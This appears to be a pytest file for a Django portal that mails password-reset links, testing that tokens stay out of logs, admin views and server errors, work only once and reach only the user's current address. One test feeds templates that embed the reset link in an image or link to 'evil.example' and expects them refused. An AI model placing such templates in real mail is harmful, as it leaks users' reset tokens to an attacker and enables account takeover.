"""What strangers tried on mail with links to choose a password: who gets one, when, and who else reads it."""

from __future__ import annotations

import contextlib
import io
import logging
import re
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from django.core.management import CommandError, call_command
from django.db import OperationalError
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from flags.models import TenantHome
from iam import password_links
from iam.models import User
from migration_portal.decommission import remaining as left
from migration_portal.notices import password_mail, plan, send, texts
from migration_portal.notices.models import Notice, Recipient, Unsubscribed
from migration_portal.refusal import Refusal
from tests import builders
from tests.attack.linked import ODD, OTHER, PAGE, choose, client, token_in
from tests.attack.linked import ann as ann
from tests.iam.conftest import Api
from tests.iam.conftest import api as api
from tests.legacy_compat.conftest import make_tenant, make_user
from tests.notices.conftest import ENGLISH, LINKED, sent
from tests.notices.conftest import console as console
from tests.notices.conftest import mail as mail
from tests.notices.smtp import Kept
from tests.world import World


def test_no_log_holds_a_token(ann: User) -> None:
    token, stream = password_links.token_of(ann), io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.getLogger().handlers[0].formatter if logging.getLogger().handlers else None)
    logging.getLogger().addHandler(handler)
    try:
        client().get(PAGE, {"token": token})
        choose(token, "short")
        Client(enforce_csrf_checks=True).post(f"{PAGE}?token={token}", {})
        choose(token)
        choose(token)
    finally:
        logging.getLogger().removeHandler(handler)
    assert "new-password" in stream.getvalue()
    assert token not in stream.getvalue() and token[:30] not in stream.getvalue()


@pytest.mark.parametrize("group", ["viewer", "operator"])
def test_no_operator_reads_live_links_of_others(
    world: World, api: Api, ann: User, settings: Any, tmp_path: Any, group: str
) -> None:
    """security.md: 'mailed to the user's own address', kept 'nowhere'."""
    settings.PUBLIC_URL = "https://portal.example.org"
    settings.EMAIL_BACKEND, settings.EMAIL_FILE_PATH = "django.core.mail.backends.filebased.EmailBackend", str(tmp_path)
    texts.save("reset", "en", by="otto", **LINKED)
    sent({"passwords": "legacy"}, "reset")
    builders.member(group, username="vera")
    browser = client()
    browser.login(username="vera", password="secret-pass-1")
    page = browser.get(reverse("notice_files"))
    shown = page.content.decode()
    assert "new-password?token=…" in shown and not re.search(r"token=\w", shown)


def test_what_a_server_says_of_a_message_shows_no_link(
    mail: Kept, api: Api, ann: User, monkeypatch: pytest.MonkeyPatch, console: Client
) -> None:
    async def data(server: Any, session: Any, envelope: Any) -> str:
        url = re.search(rb"https://\S+token=\S+", envelope.content.replace(b"=\r\n", b"").replace(b"=3D", b"="))
        return f"554 5.7.1 Blocked link: {url[0].decode()}"  # type: ignore[index]

    monkeypatch.setattr(type(mail), "handle_DATA", lambda self, *a: data(*a))
    texts.save("reset", "en", by="otto", **LINKED)
    notice = sent({"passwords": "legacy"}, "reset")
    kept = Recipient.objects.get(notice=notice).error
    shown = console.get(f"/admin/notices/{notice.pk}/").content.decode()
    assert "token=…" in kept and not re.search(r"token=\w", kept + shown), kept


def planned(who: dict[str, Any] | None = None, template: str = "reset") -> Notice:
    made = plan.plan("Reset", template, who or {}, by="otto")
    send.expand(made)
    return made


def test_a_link_goes_to_the_address_that_the_user_has_now(mail: Kept, api: Api, ann: User) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    planned({"passwords": "legacy"})
    old = ann.email
    User.objects.filter(pk=ann.pk).update(email="corrected@example.org")
    send.work()
    assert old not in mail.recipients or choose(token_in(mail.messages[0][1])).status_code != 200


def test_the_same_after_a_pause_of_weeks(mail: Kept, api: Api, ann: User) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    notice = planned({"passwords": "legacy"})
    plan.move(notice, "paused", by="otto")
    User.objects.filter(pk=ann.pk).update(email="corrected@example.org")
    plan.move(notice, "sending", by="otto")
    send.work()
    assert mail.recipients != [ann.email]


def test_who_signed_in_meanwhile_is_mailed_no_link_of_the_legacy_audience(mail: Kept, api: Api, ann: User) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    planned({"passwords": "legacy"})
    ann.set_password(OTHER)  # what migration at login does
    ann.save()
    send.work()
    assert mail.messages == []


def test_who_was_switched_off_meanwhile_is_mailed_no_link(mail: Kept, api: Api, ann: User) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    planned({"passwords": "legacy"})
    User.objects.filter(pk=ann.pk).update(is_active=False)
    send.work()
    assert mail.messages == []


def test_a_message_that_is_sent_once_more_is_good_for_no_second_password(mail: Kept, api: Api, ann: User) -> None:
    """notices.md: 'good for one password'."""
    texts.save("reset", "en", by="otto", **LINKED)
    notice = planned({"passwords": "legacy"})
    pk = send._candidates(notice)[0]
    assert send._claim(pk)
    to = Recipient.objects.get(pk=pk)  # the worker sends, and dies before it marks it
    send.message(to, texts.of("reset"), "Acme", password_mail.url_of(User.objects.get(pk=to.user)))
    first = parse_qs(urlsplit(password_mail.url_of(User.objects.get(pk=to.user))).query)["token"][0]
    assert choose(first).status_code == 200
    Recipient.objects.update(claimed_at=timezone.now() - timedelta(seconds=9))
    send.work()
    assert mail.messages == [] or choose(token_in(mail.messages[0][1]), OTHER).status_code == 410


def test_the_iam_away_keeps_no_other_notice_and_marks_nobody_twice(
    mail: Kept, api: Api, ann: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    """notices.md: 'What keeps one notice from being sent is shown with it, and keeps no other'."""
    texts.save("reset", "en", by="otto", **LINKED)
    notice = planned({"passwords": "legacy"})
    real = password_mail.url_of

    def away(user: Any) -> str:
        raise OperationalError("away")

    monkeypatch.setattr(password_mail, "url_of", away)
    problem = None
    try:
        send.work()
    except OperationalError as error:
        problem = error
    monkeypatch.setattr(password_mail, "url_of", real)
    Recipient.objects.update(next_at=timezone.now())  # half a minute later
    send.work()
    twice = plan.counts(notice)["perhaps_twice"]
    assert (problem, twice, len(mail.messages)) == (None, 0, 1)


def test_a_template_that_gets_a_link_later_is_not_shown_in_the_applications(mail: Kept, api: Api) -> None:
    notice = plan.plan("Shown", "moving", {}, by="otto", in_app=True)
    texts.save("moving", "en", by="otto", **LINKED)
    send.work()
    notice.refresh_from_db()
    assert api.call("GET", "/notices").json()["items"] == [] and "goes to nobody who has a password" in notice.error


def test_a_link_in_one_language_only(mail: Kept, api: Api) -> None:
    texts.save("reset", "en", by="otto", **ENGLISH)
    texts.save("reset", "de", by="otto", **LINKED)
    with pytest.raises(Refusal):
        plan.plan("x", "reset", {}, by="otto", in_app=True)
    make_user(api.tenant, preferred_language="de", hashed_password=ODD)
    make_user(api.tenant, preferred_language="en", hashed_password=ODD)
    sent({"passwords": "legacy"}, "reset")
    bodies = [made.get_body(("plain",)).get_content() for _, made in mail.messages]
    assert sum("token=" in body for body in bodies) == 1


@pytest.mark.parametrize("written", ["${password_link}", "$PASSWORD_LINK", "$Password_Link"])
def test_other_ways_to_write_it(mail: Kept, api: Api, written: str) -> None:
    for part in ("subject", "text"):
        try:
            texts.save("reset", "en", by="otto", **(ENGLISH | {part: f"x {written}"}))
        except Refusal:
            continue
        assert part == "text"
        with pytest.raises(Refusal):
            plan.plan("x", "reset", {}, by="otto", in_app=True)


def test_who_unsubscribed_from_announcements_still_gets_their_link(mail: Kept, api: Api, ann: User) -> None:
    Unsubscribed.objects.create(email=str(ann.email).lower())
    texts.save("reset", "en", by="otto", **(LINKED | {"kind": "announcement"}))
    with pytest.raises(Refusal, match="Who wants no announcements would not get it"):
        sent({"passwords": "legacy"}, "reset")
    texts.save("reset", "en", by="otto", **LINKED)
    sent({"passwords": "legacy"}, "reset")
    assert mail.recipients == [ann.email]


@pytest.mark.parametrize("public", ["https://x.example.org/portal", "https://x.example.org"])
def test_public_url_with_a_path(mail: Kept, api: Api, ann: User, settings: Any, public: str) -> None:
    settings.PUBLIC_URL = public
    assert password_mail.url_of(ann).startswith(f"{public}/oauth/new-password?token=")


def test_notify_at_the_terminal(mail: Kept, api: Api, ann: User) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    with pytest.raises(CommandError):
        call_command("portal", "notify", "N", "--template", "reset", "--in-app", stdout=io.StringIO())
    out = io.StringIO()
    call_command("portal", "notify", "T", "--template", "reset", "--test", "otto@example.org", stdout=out)
    assert "token=" not in out.getvalue()


def test_decommission_says_whom_no_link_can_reach(world: World, api: Api) -> None:
    make_user(api.tenant, email="", hashed_password=ODD)
    gone = make_tenant(name="Gone", is_active=False)
    make_user(gone, hashed_password=ODD)
    [item] = left._passwords()
    from migration_portal.notices import audience

    reachable = audience.size({"passwords": "legacy"})
    assert item.count == reachable or "address" in item.todo, (item.count, reachable, item.todo)


def test_a_link_while_the_tenant_is_still_in_legacy_is_not_mailed(mail: Kept, api: Api, ann: User) -> None:
    TenantHome.objects.filter(tenant=str(api.tenant.pk)).update(home="legacy")
    texts.save("reset", "en", by="otto", **LINKED)
    notice = sent({"passwords": "legacy"}, "reset")
    assert mail.messages == [] and "still at home in legacy" in Recipient.objects.get(notice=notice).error


def test_a_subject_that_would_be_cut_is_refused(mail: Kept, api: Api) -> None:
    with pytest.raises(Refusal, match="more than 200 characters"):
        texts.save("cut", "en", by="otto", **(ENGLISH | {"subject": "x" * 195 + " $tenant"}))


def test_users_without_any_password_by_intent_are_mailed_none(mail: Kept, api: Api) -> None:
    make_user(api.tenant, hashed_password="!", sso_provider="okta", sso_id="1")
    texts.save("reset", "en", by="otto", **LINKED)
    sent({"passwords": "legacy"}, "reset")
    assert mail.messages == []


def test_planning_is_refused_while_no_link_can_be_made(mail: Kept, api: Api, ann: User, settings: Any) -> None:
    """Else every recipient is given up as bounced at once, and setting PUBLIC_URL brings none of them back."""
    texts.save("reset", "en", by="otto", **LINKED)
    settings.PUBLIC_URL = ""
    with pytest.raises(Refusal):
        plan.plan("x", "reset", {"passwords": "legacy"}, by="otto")


def test_who_knows_their_password_is_mailed_no_link(mail: Kept, api: Api) -> None:
    texts.save("reset", "en", by="otto", **LINKED)
    with pytest.raises(Refusal, match="goes to nobody who has a password that can be checked"):
        sent({}, "reset")


def test_a_template_that_gets_a_link_while_it_is_sent_to_all(mail: Kept, api: Api) -> None:
    notice = plan.plan("x", "moving", {}, by="otto")
    send.expand(notice)
    texts.save("moving", "en", by="mallory", **LINKED)
    send.work()
    assert mail.messages == []


@pytest.mark.parametrize(
    "html",
    ['<img src="https://evil.example/?$password_link">', '<a href="https://evil.example/?u=$password_link">x</a>'],
)
def test_a_template_sends_no_link_to_another_site(mail: Kept, api: Api, ann: User, html: str) -> None:
    with pytest.raises(Refusal, match="stands alone"):
        texts.save("reset", "en", by="mallory", **(LINKED | {"html": html}))


def test_a_second_notice_goes_out_while_the_iam_fails_the_first(
    mail: Kept, api: Api, ann: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    """notices.md: what keeps one notice from being sent 'is shown with it, and keeps no other'."""
    texts.save("reset", "en", by="otto", **LINKED)
    first = planned({"passwords": "legacy"})
    second = plan.plan("Second", "moving", {"tenants": [str(api.tenant.pk)]}, by="otto")
    send.expand(second)

    def away(user: Any) -> str:
        raise OperationalError("away")

    monkeypatch.setattr(password_mail, "url_of", away)
    with contextlib.suppress(OperationalError):
        send.work()
    first.refresh_from_db()
    assert "away" in first.error and len(mail.messages) == 2


def test_a_lost_answer_after_the_iam_was_away_is_tried_once_more(
    mail: Kept, api: Api, ann: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    """notices.md: 'where the server took the message and its answer was lost, it is sent once more'."""
    import smtplib

    from django.core.mail.backends.smtp import EmailBackend

    texts.save("reset", "en", by="otto", **LINKED)
    planned({"passwords": "legacy"})
    real = password_mail.url_of

    def away(user: Any) -> str:
        raise OperationalError("away")

    monkeypatch.setattr(password_mail, "url_of", away)
    with contextlib.suppress(OperationalError):
        send.work()
    monkeypatch.setattr(password_mail, "url_of", real)
    Recipient.objects.update(next_at=timezone.now())

    def lost(self: Any, messages: Any) -> int:
        raise smtplib.SMTPServerDisconnected("lost")

    monkeypatch.setattr(EmailBackend, "send_messages", lost)
    send.work()
    assert Recipient.objects.get().state == "waiting"


def test_the_files_that_hold_links_are_for_their_owner_alone(
    mail: Kept, api: Api, ann: User, settings: Any, tmp_path: Any
) -> None:
    settings.EMAIL_BACKEND, settings.EMAIL_FILE_PATH = (
        "django.core.mail.backends.filebased.EmailBackend",
        str(tmp_path / "mail"),
    )
    texts.save("reset", "en", by="otto", **LINKED)
    sent({"passwords": "legacy"}, "reset")
    files = list((tmp_path / "mail").glob("*.log"))
    assert files and not any(f.stat().st_mode & 0o077 and f.parent.stat().st_mode & 0o077 for f in files)
